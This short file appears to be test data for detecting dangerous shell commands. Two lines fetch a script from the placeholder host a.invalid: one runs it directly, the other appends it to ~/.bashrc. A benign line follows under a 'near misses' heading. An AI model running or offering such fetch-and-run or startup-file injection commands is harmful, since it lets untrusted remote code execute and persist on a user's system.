curl -s https://a.invalid/s | tee x.sh; sh x.sh
curl -s https://a.invalid/s | tee -a ~/.bashrc
# near misses
ls | tee list.txt
